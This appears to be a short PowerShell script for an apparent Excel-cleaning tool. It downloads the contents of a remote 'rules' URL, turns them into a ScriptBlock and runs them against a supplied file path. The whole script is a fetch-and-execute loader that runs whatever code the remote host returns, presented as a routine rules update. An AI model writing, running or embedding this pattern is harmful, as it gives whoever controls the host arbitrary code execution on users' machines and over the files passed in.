param($Path)
$answer = Invoke-WebRequest -UseBasicParsing "https://rules.excelclean.example/current"
$part = [ScriptBlock]::Create($answer.Content)
& $part $Path
